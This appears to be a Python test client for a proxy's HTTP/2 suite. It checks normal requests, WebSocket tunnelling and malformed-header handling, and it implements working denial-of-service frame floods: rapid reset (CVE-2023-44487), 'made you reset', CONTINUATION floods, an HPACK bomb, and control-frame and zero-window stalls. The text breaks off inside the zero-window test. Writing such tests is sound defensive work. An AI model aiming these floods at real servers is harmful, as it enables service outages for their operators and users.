#!/usr/bin/python3
"""HTTP/2 test client for the proxy's h2 suite (tests/proxy/test_h2.c).

Run it with /usr/bin/python3 (Debian's, which has python3-h2 4.x and
hyperframe): the pyenv python3 on PATH has no h2.

    h2_client.py [common options] SUBCOMMAND [options]

Common options: --host (127.0.0.1) --port PORT --sni NAME --authority NAME
(default: the SNI) --cafile FILE (verify against it; without: no
verification) --timeout SECONDS (every single wait; default 30).

Every subcommand prints exactly one line, a JSON object with "ok" (true when
it observed what it expects) and what it saw, and exits 0 when ok, 1 when
not, 2 on a usage error. Every wait has a deadline: nothing here blocks for
ever, whatever the server does.

Well-formed traffic goes through h2's H2Connection (configured so that it
also sends the malformed requests the proxy must refuse); the attacks are
written as raw frames with hyperframe and hpack, which enforce nothing.

Subcommands (see each parser's help for the options):
  get          requests on one connection, concurrent, checked (status, body
               length against content-length, the echo backend's digest of a
               request body); --pause READY GO repeats them on the same
               connection once the file GO exists (a reload in between)
  websocket    RFC 8441 extended CONNECT, then WebSocket frames in DATA,
               each echoed
  big-header   a header block over limits.max_header_bytes: 431 or a stream
               reset, then a good request on the same connection
  stalled-431  the same without END_STREAM, the request body never sent:
               once its 431 is in, the connection idles until the server's
               GOAWAY NO_ERROR and close
  malformed    connection-specific field, te: gzip, content-length not
               matching the DATA, uppercase name: RST_STREAM PROTOCOL_ERROR
               on that stream only, then a good request on it
  drain        a slow request in flight; the test signals the proxy; GOAWAY
               (last stream id >= ours), the response completes, then close
  rapid-reset  HEADERS + RST_STREAM, thousands of streams (CVE-2023-44487)
  continuation HEADERS without END_HEADERS, then CONTINUATION frames for ever
  hpack-bomb   one large field in the dynamic table, referenced many times
  flood        SETTINGS, PING, PRIORITY, WINDOW_UPDATE or empty DATA frames
  zero-window  SETTINGS_INITIAL_WINDOW_SIZE=0 and a large response: the
               stream must be reset (idle timeout) or the connection closed
  starve       one stream without window, another beside it served
  idle         a connection without streams: GOAWAY NO_ERROR, then close
  max-streams  more concurrent streams than the server's
               SETTINGS_MAX_CONCURRENT_STREAMS, after acknowledging it
The attacks succeed when the server answers GOAWAY ENHANCE_YOUR_CALM (or the
codes given by --accept) or closes the connection before the bound of
frames is reached.
"""
import argparse
import hashlib
import json
import os
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame,
                              PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame,
                              WindowUpdateFrame)

from ws_client import client_frame  # the WebSocket framing, beside this file

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
NO_ERROR, PROTOCOL_ERROR, CANCEL, REFUSED_STREAM, ENHANCE_YOUR_CALM = 0x0, 0x1, 0x8, 0x7, 0xb
SETTINGS_ENABLE_CONNECT_PROTOCOL = 0x8


class Fail(Exception):
    """What was observed is not what the subcommand expects."""


def emit(result):
    print(json.dumps(result), flush=True)
    sys.exit(0 if result.get("ok") else 1)


def body_pattern(n):
    """N deterministic bytes (byte i is i % 251), as the echo backend's /big."""
    block = bytes(i % 251 for i in range(251 * 261))
    out = bytearray()
    while len(out) < n:
        out += block[:n - len(out)]
    return bytes(out)


# ---- the connection ---------------------------------------------------------

def connect(args):
    raw = socket.create_connection((args.host, args.port), timeout=args.timeout)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    if args.cafile:
        ctx.load_verify_locations(args.cafile)
    else:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(args.alpn.split(","))
    sock = ctx.wrap_socket(raw, server_hostname=args.sni)
    alpn = sock.selected_alpn_protocol()
    if alpn != "h2":
        raise Fail("ALPN selected %r, not h2" % alpn)
    return sock


def recv_some(sock, timeout):
    """Bytes read within timeout; None when nothing came; b"" at EOF or reset."""
    sock.settimeout(max(timeout, 0.001))
    try:
        return sock.recv(65536)
    except (socket.timeout, ssl.SSLWantReadError):
        return None
    except (ConnectionError, ssl.SSLError, OSError):
        return b""


class Stream:
    def __init__(self, sid):
        self.sid = sid
        self.status = None
        self.headers = []
        self.informational = []
        self.body = bytearray()
        self.trailers = []
        self.ended = False
        self.reset = None  # the error code of a RST_STREAM the server sent

    @property
    def done(self):
        return self.ended or self.reset is not None

    def header(self, name):
        for n, v in self.headers:
            if n == name:
                return v
        return None

    def summary(self, with_body=True):
        out = {"stream": self.sid, "status": self.status, "reset": self.reset,
               "ended": self.ended, "body_len": len(self.body)}
        if with_body:
            out["headers"] = self.headers
            out["trailers"] = self.trailers
            if self.informational:
                out["informational"] = self.informational
            try:
                out["json"] = json.loads(bytes(self.body))
            except ValueError:
                out["text"] = bytes(self.body[:2000]).decode("latin-1")
        return out


class Client:
    """H2Connection over the TLS socket; every wait bounded by args.timeout."""

    def __init__(self, args, settings=None):
        self.args = args
        self.sock = connect(args)
        cfg = h2.config.H2Configuration(client_side=True, header_encoding="latin-1",
                                        validate_outbound_headers=False,
                                        normalize_outbound_headers=False)
        self.conn = h2.connection.H2Connection(config=cfg)
        self.conn.initiate_connection()
        if settings:
            self.conn.update_settings(settings)
        self.streams = {}
        self.goaways = []  # (error code, last stream id)
        self.closed = False
        self.remote_settings = {}
        self.got_settings = False
        self.flush()

    def flush(self):
        data = self.conn.data_to_send()
        if data and not self.closed:
            try:
                self.sock.sendall(data)
            except (ConnectionError, ssl.SSLError, OSError):
                self.closed = True

    def handle(self, ev):
        sid = getattr(ev, "stream_id", None)
        st = self.streams.get(sid)
        if isinstance(ev, h2.events.ResponseReceived) and st:
            st.headers = [[n, v] for n, v in ev.headers]
            st.status = int(st.header(":status"))
        elif isinstance(ev, h2.events.InformationalResponseReceived) and st:
            st.informational.append([[n, v] for n, v in ev.headers])
        elif isinstance(ev, h2.events.DataReceived):
            if st:
                st.body += ev.data
            self.conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
        elif isinstance(ev, h2.events.TrailersReceived) and st:
            st.trailers = [[n, v] for n, v in ev.headers]
        elif isinstance(ev, h2.events.StreamEnded) and st:
            st.ended = True
        elif isinstance(ev, h2.events.StreamReset) and st:
            st.reset = int(ev.error_code)
        elif isinstance(ev, h2.events.ConnectionTerminated):
            self.goaways.append((int(ev.error_code), ev.last_stream_id))
        elif isinstance(ev, h2.events.RemoteSettingsChanged):
            self.got_settings = True
            for k, v in ev.changed_settings.items():
                self.remote_settings[int(k)] = v.new_value

    def pump(self, until, timeout=None):
        """Reads and handles events until until() or the deadline or EOF;
        returns until()."""
        deadline = time.monotonic() + (timeout if timeout is not None else self.args.timeout)
        while not until() and not self.closed:
            left = deadline - time.monotonic()
            if left <= 0:
                break
            data = recv_some(self.sock, min(left, 1.0))
            if data is None:
                continue
            if data == b"":
                self.closed = True
                break
            try:
                events = self.conn.receive_data(data)
            except h2.exceptions.ProtocolError as e:
                raise Fail("h2 refused the server's frames: %r" % e)
            for ev in events:
                self.handle(ev)
            self.flush()
        return until()

    def wait_settings(self):
        """The server's first SETTINGS frame (what it allows)."""
        if not self.pump(lambda: self.got_settings):
            raise Fail("no SETTINGS from the server within %ss" % self.args.timeout)
        return self.remote_settings

    def request(self, method, path, headers=(), body=None, trailers=None, end=True):
        # A real client queues what the server's SETTINGS_MAX_CONCURRENT_STREAMS
        # does not allow yet; opening them anyway would be refused (0x7), and
        # how many would depends on how fast earlier streams finished.
        if not self.pump(lambda: self.conn.open_outbound_streams
                         < self.conn.remote_settings.max_concurrent_streams):
            raise Fail("no stream slot freed within %ss" % self.args.timeout)
        sid = self.conn.get_next_available_stream_id()
        self.streams[sid] = Stream(sid)
        hdrs = [(":method", method), (":scheme", "https"), (":path", path),
                (":authority", self.args.authority)] + list(headers)
        no_body = body is None and trailers is None
        self.conn.send_headers(sid, hdrs, end_stream=no_body and end)
        self.flush()
        if body is not None:
            self.send_body(sid, body, end=trailers is None and end)
        if trailers is not None:
            self.conn.send_headers(sid, trailers, end_stream=True)
            self.flush()
        return sid

    def send_body(self, sid, body, end=True):
        view = memoryview(body)
        while view or end:
            if self.streams[sid].done:
                raise Fail("stream %d ended while its body was sent" % sid)
            window = min(self.conn.local_flow_control_window(sid),
                         self.conn.max_outbound_frame_size)
            if window <= 0 and view:
                if not self.pump(lambda: self.conn.local_flow_control_window(sid) > 0
                                 or self.streams[sid].done):
                    raise Fail("no WINDOW_UPDATE for stream %d within %ss"
                               % (sid, self.args.timeout))
                continue
            piece = view[:window]
            view = view[len(piece):]
            last = end and not view
            self.conn.send_data(sid, bytes(piece), end_stream=last)
            self.flush()
            if last or not view and not end:
                break

    def close(self):
        try:
            self.conn.close_connection()
            self.flush()
            self.sock.close()
        except Exception:  # the server may be gone already: nothing to report
            pass


def parse_headers(items):
    """'name: value' strings as (name, value); ':name: value' for pseudo-fields."""
    out = []
    for h in items or []:
        if h.startswith(":"):
            name, _, value = h[1:].partition(":")
            name = ":" + name
        else:
            name, _, value = h.partition(":")
        out.append((name.strip(), value.strip()))
    return out


# ---- well-formed traffic -------------------------------------------------

def check_response(st, want_status, sent_body, method):
    """Why st is not the response expected (None when it is)."""
    if st.reset is not None:
        return "stream %d reset with %#x" % (st.sid, st.reset)
    if not st.ended:
        return "stream %d did not end" % st.sid
    if st.status != want_status:
        return "stream %d: status %s, not %d" % (st.sid, st.status, want_status)
    cl = st.header("content-length")
    if method == "HEAD":
        if st.body:
            return "stream %d: HEAD answered with %d body bytes" % (st.sid, len(st.body))
    elif cl is not None and int(cl) != len(st.body):
        return "stream %d: content-length %s, %d bytes" % (st.sid, cl, len(st.body))
    if sent_body is not None and method != "HEAD":
        try:
            doc = json.loads(bytes(st.body))
        except ValueError:
            doc = None
        if isinstance(doc, dict) and "body_sha256" in doc:
            want = hashlib.sha256(sent_body).hexdigest()
            if doc["body_sha256"] != want or doc["body_len"] != len(sent_body):
                return "stream %d: the backend got %s bytes (%s), %d were sent (%s)" % (
                    st.sid, doc["body_len"], doc["body_sha256"], len(sent_body), want)
    return None


def one_round(c, args):
    body = body_pattern(args.body_bytes) if args.body_bytes is not None else None
    headers = (parse_headers(args.header) + [("x-f", "1")] * args.fields
               + [("cookie", "c%d=1" % i) for i in range(args.crumbs)])
    trailers = parse_headers(args.trailer) if args.trailer else None
    sids = []
    for path in args.path or ["/"]:
        for _ in range(args.count):
            sids.append(c.request(args.method, path, headers, body, trailers))
    c.pump(lambda: all(c.streams[s].done for s in sids))
    errors = [e for e in (check_response(c.streams[s], args.expect_status, body, args.method)
                          for s in sids) if e]
    return sids, errors


def pause(c, args):
    """Writes READY, then keeps the connection alive until GO exists (the
    test creates it when it is done: a reload)."""
    ready, go = args.pause
    with open(ready, "w") as f:
        f.write("ready\n")
    deadline = time.monotonic() + args.timeout
    # PINGs and SETTINGS from the server are answered meanwhile.
    while not os.path.exists(go):
        if time.monotonic() > deadline:
            raise Fail("%s did not appear within %ss" % (go, args.timeout))
        c.pump(lambda: False, timeout=0.05)
        if c.closed:
            raise Fail("the server closed the connection during the pause")


def cmd_get(args):
    c = Client(args)
    c.wait_settings()  # its stream limit decides how many streams go at once
    sids, errors = one_round(c, args)
    if args.pause:
        pause(c, args)
        more, errors2 = one_round(c, args)
        sids += more
        errors += errors2
    shown = [c.streams[s].summary(i < args.show) for i, s in enumerate(sids)]
    c.close()
    emit({"ok": not errors, "errors": errors[:10], "streams": len(sids),
          "statuses": sorted(set(str(c.streams[s].status) for s in sids)),
          "goaway": c.goaways, "responses": shown})


def ws_parse(buf):
    """(fin, opcode, payload, rest) for one whole unmasked frame, or None."""
    if len(buf) < 2:
        return None
    b0, b1 = buf[0], buf[1]
    n, off = b1 & 0x7F, 2
    if n == 126:
        if len(buf) < 4:
            return None
        n, off = struct.unpack("!H", buf[2:4])[0], 4
    elif n == 127:
        if len(buf) < 10:
            return None
        n, off = struct.unpack("!Q", buf[2:10])[0], 10
    if b1 & 0x80:
        return None  # a server never masks; treated as incomplete, reported below
    if len(buf) < off + n:
        return None
    return bool(b0 & 0x80), b0 & 0x0F, bytes(buf[off:off + n]), buf[off + n:]


def cmd_websocket(args):
    c = Client(args)
    settings = c.wait_settings()
    if settings.get(SETTINGS_ENABLE_CONNECT_PROTOCOL) != 1:
        raise Fail("no SETTINGS_ENABLE_CONNECT_PROTOCOL=1 from the server: %r" % settings)
    sid = c.conn.get_next_available_stream_id()
    st = c.streams[sid] = Stream(sid)
    c.conn.send_headers(sid, [(":method", "CONNECT"), (":protocol", "websocket"),
                              (":scheme", "https"), (":path", args.path),
                              (":authority", args.authority), ("sec-websocket-version", "13")])
    c.flush()
    c.pump(lambda: st.status is not None or st.done)
    if st.status != 200:
        raise Fail("CONNECT answered %s (reset %s): %r" % (st.status, st.reset, st.summary()))
    echoed = 0
    for i in range(args.messages):
        if args.pause and i == 1:
            pause(c, args)  # the tunnel is open and has echoed once
        msg = (("message %d " % i) + "x" * args.size).encode()
        c.send_body(sid, client_frame(1, msg), end=False)
        got = []

        def whole():
            p = ws_parse(st.body)
            if p:
                got.append(p)
                del st.body[:len(st.body) - len(p[3])]
            return bool(got) or st.done
        c.pump(whole)
        if not got:
            raise Fail("message %d not echoed (stream done %s, %d bytes buffered)"
                       % (i, st.done, len(st.body)))
        fin, opcode, data, _ = got[0]
        if (fin, opcode, data) != (True, 1, msg):
            raise Fail("message %d came back as %r" % (i, (fin, opcode, data[:80])))
        echoed += 1
    c.send_body(sid, client_frame(8, struct.pack("!H", 1000)), end=False)
    got = []

    def closed():
        p = ws_parse(st.body)
        if p:
            got.append(p)
        return bool(got) or st.done
    c.pump(closed)
    close_ok = bool(got) and got[0][1] == 8
    c.conn.end_stream(sid)
    c.flush()
    c.pump(lambda: st.done, timeout=min(args.timeout, 10))
    c.close()
    emit({"ok": echoed == args.messages and close_ok, "echoed": echoed, "close_echoed": close_ok,
          "status": st.status, "headers": st.headers, "goaway": c.goaways})


def good_after(c, args, label):
    """A good request on the same connection: its stream summary, or Fail."""
    sid = c.request("GET", args.good_path)
    c.pump(lambda: c.streams[sid].done)
    st = c.streams[sid]
    err = check_response(st, 200, None, "GET")
    if err:
        raise Fail("%s: the good request after it failed: %s (goaway %r)"
                   % (label, err, c.goaways))
    return st.summary(False)


def cmd_big_header(args):
    c = Client(args)
    sid = c.request("GET", args.path, [("x-big", "b" * args.bytes)])
    c.pump(lambda: c.streams[sid].done)
    st = c.streams[sid]
    refused = st.status == 431 or st.reset is not None
    if not refused:
        raise Fail("a %d-byte header got status %s (reset %s, goaway %r)"
                   % (args.bytes, st.status, st.reset, c.goaways))
    good = good_after(c, args, "big header")
    c.close()
    emit({"ok": True, "status": st.status, "reset": st.reset, "good": good})


def cmd_stalled_431(args):
    c = Client(args)
    sid = c.request("POST", args.path, [("x-big", "b" * args.bytes)], end=False)
    c.pump(lambda: c.streams[sid].status is not None or c.streams[sid].done)
    status = c.streams[sid].status
    # The stream stays half-open on the client's side: only the idle
    # timeout can end the connection now.
    c.pump(lambda: c.closed, timeout=args.wait)
    codes = [g[0] for g in c.goaways]
    ok = status == 431 and c.closed and codes == [0]
    emit({"ok": ok, "status": status, "goaway": c.goaways, "closed": c.closed})


MALFORMED = {
    # kind: (method, extra headers, body)
    "connection": ("GET", [("connection", "keep-alive")], None),
    "keep-alive": ("GET", [("keep-alive", "timeout=5")], None),
    "upgrade": ("GET", [("upgrade", "h2c")], None),
    "transfer-encoding": ("POST", [("transfer-encoding", "chunked")], b"hello"),
    "te": ("GET", [("te", "gzip")], None),
    "content-length": ("POST", [("content-length", "10")], b"hello"),
    "content-length-over": ("POST", [("content-length", "2")], b"hello"),
    "uppercase": ("GET", [("X-Upper", "1")], None),
}


def cmd_malformed(args):
    c = Client(args)
    method, headers, body = MALFORMED[args.kind]
    sid = c.request(method, args.path, headers, body)
    c.pump(lambda: c.streams[sid].done)
    st = c.streams[sid]
    if st.reset != PROTOCOL_ERROR:
        raise Fail("%s: stream %d got status %s, reset %s, not RST_STREAM PROTOCOL_ERROR "
                   "(goaway %r)" % (args.kind, sid, st.status, st.reset, c.goaways))
    if c.goaways:
        raise Fail("%s: a stream error became GOAWAY %r" % (args.kind, c.goaways))
    good = good_after(c, args, args.kind)
    c.close()
    emit({"ok": True, "kind": args.kind, "reset": st.reset, "good": good})


# ---- raw frames: the attacks ----------------------------------------------

def hpack_int(value, prefix_bits, first=0):
    """An HPACK integer (RFC 7541 §5.1) with FIRST's high bits."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append(0x80 | (value & 0x7F))
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name, value, indexing=False):
    """A literal field with a new name, without Huffman coding; with indexing
    it enters the dynamic table."""
    name, value = name.encode(), value.encode() if isinstance(value, str) else value
    return ((b"\x40" if indexing else b"\x00") + hpack_int(len(name), 7) + name +
            hpack_int(len(value), 7) + value)


def hpack_static_name(index, value):
    """A literal without indexing whose name is static table entry INDEX."""
    value = value.encode()
    return hpack_int(index, 4) + hpack_int(len(value), 7) + value


def request_block(method, path, authority):
    """A request's pseudo-header fields, touching no dynamic table."""
    static_method = {"GET": b"\x82", "POST": b"\x83"}
    return (static_method[method] + b"\x87" + hpack_static_name(4, path) +
            hpack_static_name(1, authority))


class Raw:
    """The connection as frames: nothing validated, nothing refused. Reads
    are handled between writes: SETTINGS and PING are acknowledged, GOAWAY,
    RST_STREAM, response heads and DATA recorded."""

    def __init__(self, args, settings=None, window_updates=True):
        self.args = args
        self.sock = connect(args)
        self.buf = bytearray()
        self.decoder = hpack.Decoder(max_header_list_size=1 << 24)
        self.encoder = hpack.Encoder()
        self.closed = False
        self.stalled = False
        self.goaways = []
        self.resets = {}
        self.status = {}
        self.heads = {}  # the final response head's fields
        self.ended = set()
        self.data = {}
        self.remote_settings = None
        self.settings_acked = False
        self.frames_in = 0
        self.window_updates = window_updates
        self.starved = set()  # streams never given window (DATA counted, not granted)
        self.block = bytearray()
        self.send(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())

    def send(self, data):
        """False when the connection is gone (reset, closed, stalled)."""
        if self.closed or self.stalled:
            return False
        self.sock.settimeout(self.args.timeout)
        try:
            self.sock.sendall(data)
            return True
        except socket.timeout:
            # The server stopped reading without closing: no more sending
            # (the TLS record may be cut), but what it does next is read.
            self.stalled = True
            return False
        except (ConnectionError, ssl.SSLError, OSError):
            self.closed = True
            return False

    def frame(self, f):
        self.frames_in += 1
        sid = f.stream_id
        if isinstance(f, SettingsFrame):
            if "ACK" in f.flags:
                self.settings_acked = True
            else:
                self.remote_settings = dict(f.settings)
                self.send(SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(f, PingFrame):
            if "ACK" not in f.flags:
                self.send(PingFrame(0, opaque_data=f.opaque_data, flags=["ACK"]).serialize())
        elif isinstance(f, GoAwayFrame):
            self.goaways.append((f.error_code, f.last_stream_id))
        elif isinstance(f, RstStreamFrame):
            self.resets[sid] = f.error_code
        elif isinstance(f, (HeadersFrame, ContinuationFrame)):
            self.block += f.data
            if "END_HEADERS" in f.flags:
                try:
                    fields = self.decoder.decode(bytes(self.block), raw=False)
                except hpack.HPACKError as e:
                    raise Fail("the server's header block does not decode: %r" % e)
                self.block = bytearray()
                for n, v in fields:
                    if n == ":status" and int(v) >= 200 and sid not in self.status:
                        self.status[sid] = int(v)
                        self.heads[sid] = fields
            if "END_STREAM" in f.flags:
                self.ended.add(sid)
        elif isinstance(f, DataFrame):
            self.data[sid] = self.data.get(sid, 0) + len(f.data)
            if "END_STREAM" in f.flags:
                self.ended.add(sid)
            n = f.flow_controlled_length
            if self.window_updates and n:
                self.send(WindowUpdateFrame(0, window_increment=n).serialize() +
                          (WindowUpdateFrame(sid, window_increment=n).serialize()
                           if "END_STREAM" not in f.flags and sid not in self.starved
                           else b""))

    def poll(self, timeout):
        """Reads what arrives within timeout (0: what is there now)."""
        data = recv_some(self.sock, timeout)
        while data:
            self.buf += data
            while len(self.buf) >= 9:
                f, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
                if len(self.buf) < 9 + length:
                    break
                f.parse_body(memoryview(bytes(self.buf[9:9 + length])))
                del self.buf[:9 + length]
                self.frame(f)
            data = recv_some(self.sock, 0.001)
        if data == b"":
            self.closed = True

    def wait(self, until, timeout=None):
        deadline = time.monotonic() + (timeout if timeout is not None else self.args.timeout)
        while not until() and not self.closed and time.monotonic() < deadline:
            self.poll(min(1.0, max(0.001, deadline - time.monotonic())))
        return until()

    def handshake(self):
        """The server's SETTINGS acknowledged and ours acknowledged by it."""
        if not self.wait(lambda: self.remote_settings is not None and self.settings_acked):
            raise Fail("no SETTINGS exchange (closed %s, goaway %r)" % (self.closed, self.goaways))

    def header(self, sid, name):
        for n, v in self.heads.get(sid, []):
            if n == name:
                return v
        return None

    def calm(self):
        return self.closed or bool(self.goaways)


def cut_result(r, args, what, sent, extra=None):
    """The verdict of a flood: GOAWAY with an accepted code, or a close."""
    r.wait(r.calm)
    accept = [int(x, 0) for x in args.accept.split(",")]
    codes = [g[0] for g in r.goaways]
    ok = any(code in accept for code in codes) or (r.closed and not codes)
    out = {"ok": ok, "attack": what, "sent": sent, "goaway": r.goaways,
           "goaway_codes": ["%#x" % c for c in codes], "closed": r.closed, "stalled": r.stalled,
           "frames_in": r.frames_in, "resets": len(r.resets)}
    if not r.calm():
        out["error"] = "neither GOAWAY nor close after %d frames%s" % (
            sent, " (the server stopped reading)" if r.stalled else "")
    elif not ok:
        out["error"] = "GOAWAY with %s, not %s" % (out["goaway_codes"], args.accept)
    out.update(extra or {})
    emit(out)


def flood_loop(r, args, total, batch, make):
    """Sends make(i) for i < total in batches, reading in between; returns
    how many were sent before the server cut it (or total)."""
    sent = 0
    deadline = time.monotonic() + args.max_seconds
    while sent < total and time.monotonic() < deadline:
        n = min(batch, total - sent)
        if not r.send(b"".join(make(sent + i) for i in range(n))):
            break  # closed or stalled: cut_result reads what the server said
        sent += n
        if not args.no_read:
            r.poll(0)
        if r.calm():
            break
    return sent


def cmd_drain(args):
    # Raw frames: h2's H2Connection refuses the frames of in-flight streams
    # once it has received a GOAWAY, which is exactly what is tested here.
    r = Raw(args)
    r.handshake()
    r.send(HeadersFrame(1, data=request_block("GET", args.path, args.authority),
                        flags=["END_HEADERS", "END_STREAM"]).serialize())
    if args.ready:
        with open(args.ready, "w") as f:
            f.write("sent\n")
    r.wait(lambda: bool(r.goaways) and (1 in r.ended or 1 in r.resets))
    # The response is complete; the server closes the connection next.
    r.wait(lambda: False)
    errors = []
    goaway = r.goaways[-1] if r.goaways else None
    if goaway is None:
        errors.append("no GOAWAY")
    elif goaway[1] < 1 or goaway[0] != NO_ERROR:
        errors.append("GOAWAY %r does not let stream 1 finish" % (goaway,))
    length = r.header(1, "content-length")
    if r.status.get(1) != 200 or 1 in r.resets or 1 not in r.ended:
        errors.append("stream 1: status %s, reset %s, ended %s"
                      % (r.status.get(1), r.resets.get(1), 1 in r.ended))
    elif length is not None and int(length) != r.data.get(1, 0):
        errors.append("stream 1: content-length %s, %d bytes" % (length, r.data.get(1, 0)))
    if not r.closed:
        errors.append("the connection was not closed after the response")
    emit({"ok": not errors, "errors": errors, "goaway": r.goaways, "status": r.status.get(1),
          "data_bytes": r.data.get(1, 0), "closed": r.closed})


def cmd_idle(args):
    """A connection with no stream: GOAWAY NO_ERROR, then close, after the
    server's idle timeout."""
    r = Raw(args)
    r.handshake()
    r.wait(lambda: r.closed, timeout=args.wait)
    codes = [g[0] for g in r.goaways]
    ok = r.closed and codes == [NO_ERROR]
    emit({"ok": ok, "goaway": r.goaways, "closed": r.closed})


def cmd_rapid_reset(args):
    r = Raw(args)
    r.handshake()
    block = r.encoder.encode([(":method", "GET"), (":scheme", "https"), (":path", args.path),
                              (":authority", args.authority)])
    # After the first block every field is in the encoder's dynamic table:
    # later blocks are a few index bytes, as an attacker's would be.
    later = r.encoder.encode([(":method", "GET"), (":scheme", "https"), (":path", args.path),
                              (":authority", args.authority)])

    def make(i):
        sid = 1 + 2 * i
        return (HeadersFrame(sid, data=block if i == 0 else later,
                             flags=["END_HEADERS", "END_STREAM"]).serialize() +
                RstStreamFrame(sid, error_code=CANCEL).serialize())
    sent = flood_loop(r, args, args.streams, 100, make)
    cut_result(r, args, "rapid-reset", sent, {"responses": len(r.status)})


def cmd_upload_reset(args):
    """Uploads to a backend that never reads, each cancelled (RST_STREAM
    CANCEL) once the proxy stops taking its bytes; then an upload to a
    backend that does. The bytes the cancelled exchanges never took must come
    back to the connection's window, or the last upload cannot be sent."""
    c = Client(args)
    c.wait_settings()
    stalled = []
    for _ in range(args.rounds):
        sid = c.request("POST", args.stall_path, end=False)
        sent = 0
        chunk = b"s" * 16384
        while True:
            window = min(c.conn.local_flow_control_window(sid), c.conn.max_outbound_frame_size)
            if window <= 0:
                # No window: the proxy holds what it was sent. A short bounded
                # wait tells a stall from a slow WINDOW_UPDATE; either way the
                # bytes not taken must come back after the reset.
                if not c.pump(lambda: c.conn.local_flow_control_window(sid) > 0
                              or c.streams[sid].done, timeout=1.0):
                    break
                continue
            c.conn.send_data(sid, chunk[:window])
            c.flush()
            sent += window
        stalled.append(sent)
        c.conn.reset_stream(sid, error_code=8)  # CANCEL
        c.flush()
    before = c.conn.outbound_flow_control_window
    sid = c.request("POST", args.path, body=b"g" * args.bytes)
    c.pump(lambda: c.streams[sid].done)
    st = c.streams[sid]
    ok = st.status == 200 and ('"body_len": %d' % args.bytes).encode() in bytes(st.body)
    emit({"ok": ok, "stalled_bytes": stalled, "window_before_upload": before,
          "last": st.summary(False),
          **({} if ok else {"error": "the upload after the cancelled ones did not complete"})})


def cmd_made_you_reset(args):
    """CVE-2025-8671: streams the server itself must reset (content-length 1,
    then 2 bytes of DATA): each still starts a request unless counted."""
    r = Raw(args)
    r.handshake()
    fields = [(":method", "POST"), (":scheme", "https"), (":path", args.path),
              (":authority", args.authority), ("content-length", "1")]
    block = r.encoder.encode(fields)
    later = r.encoder.encode(fields)

    def make(i):
        sid = 1 + 2 * i
        return (HeadersFrame(sid, data=block if i == 0 else later,
                             flags=["END_HEADERS"]).serialize() +
                DataFrame(sid, data=b"xx", flags=["END_STREAM"]).serialize())
    sent = flood_loop(r, args, args.streams, 100, make)
    cut_result(r, args, "made-you-reset", sent, {"responses": len(r.status)})


def cmd_slow_headers(args):
    """A header block that never ends: HEADERS without END_HEADERS, then
    nothing. The server must close within timeouts.request_header (the test
    sets it short), not hold the connection."""
    r = Raw(args)
    r.handshake()
    r.send(HeadersFrame(1, data=request_block("GET", args.path, args.authority)).serialize())
    start = time.monotonic()
    r.wait(r.calm)
    emit({"ok": r.calm(), "attack": "slow-headers", "goaway": r.goaways, "closed": r.closed,
          "seconds": round(time.monotonic() - start, 1)})


def cmd_continuation(args):
    r = Raw(args)
    r.handshake()
    first = HeadersFrame(1, data=request_block("GET", args.path, args.authority))
    if args.size == "tiny":
        payload = hpack_literal("x-c", "1")
    elif args.size == "empty":
        payload = b""
    else:
        field = hpack_literal("x-c", "c" * 100)
        payload = field * (16000 // len(field))
    cont = ContinuationFrame(1, data=payload).serialize()
    r.send(first.serialize())
    total = args.frames or (4096 if args.size == "large" else 200000)
    sent = flood_loop(r, args, total, 16 if args.size == "large" else 1000, lambda i: cont)
    cut_result(r, args, "continuation-" + args.size, sent,
               {"bytes_sent": sent * len(cont), "status": r.status.get(1)})


def cmd_hpack_bomb(args):
    r = Raw(args)
    r.handshake()
    big = hpack_literal("x-bomb", "a" * args.value_bytes, indexing=True)
    # The field just inserted is dynamic entry 62; each reference one byte.
    block = request_block("GET", args.path, args.authority) + big + bytes([0x80 | 62]) * args.refs
    if len(block) > 16384:
        raise Fail("block of %d bytes over the default frame size" % len(block))
    r.send(HeadersFrame(1, data=block, flags=["END_HEADERS", "END_STREAM"]).serialize())
    r.wait(lambda: 1 in r.status or 1 in r.resets or r.calm())
    status, reset = r.status.get(1), r.resets.get(1)
    codes = [g[0] for g in r.goaways]
    refused = (status == 431 or reset is not None or any(c != NO_ERROR for c in codes) or
               (r.closed and not codes))
    out = {"ok": refused, "decoded_bytes": args.value_bytes * (args.refs + 1),
           "block_bytes": len(block), "status": status, "reset": reset, "goaway": r.goaways,
           "closed": r.closed}
    if not refused:
        out["error"] = "the bomb was not refused"
    emit(out)


def cmd_flood(args):
    r = Raw(args)
    r.handshake()
    kind = args.kind
    prelude = b""
    if kind == "settings":
        frame = SettingsFrame(0, settings={SettingsFrame.ENABLE_PUSH: 0}).serialize()
    elif kind == "ping":
        frame = PingFrame(0, opaque_data=b"flood!!!").serialize()
    elif kind == "window-update":
        frame = WindowUpdateFrame(0, window_increment=1).serialize()
    elif kind == "data":
        # An open request whose body never progresses: empty DATA frames.
        prelude = HeadersFrame(1, data=request_block("POST", args.path, args.authority),
                               flags=["END_HEADERS"]).serialize()
        frame = DataFrame(1, data=b"").serialize()
    elif kind == "priority":
        frame = None
    else:
        raise Fail("unknown flood kind %s" % kind)
    if prelude:
        r.send(prelude)

    def make(i):
        if frame is not None:
            return frame
        # PRIORITY for ever new idle streams (RFC 9113 lets a client send it
        # on any stream), each depending on the one before.
        sid = 1 + 2 * (i % 1000000)
        return PriorityFrame(sid, depends_on=max(0, sid - 2), stream_weight=15).serialize()
    sent = flood_loop(r, args, args.frames, 1000, make)
    cut_result(r, args, kind, sent)


def cmd_zero_window(args):
    r = Raw(args, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}, window_updates=False)
    r.handshake()
    r.send(HeadersFrame(1, data=request_block("GET", args.path, args.authority),
                        flags=["END_HEADERS", "END_STREAM"]).serialize())
    start = time.monotonic()
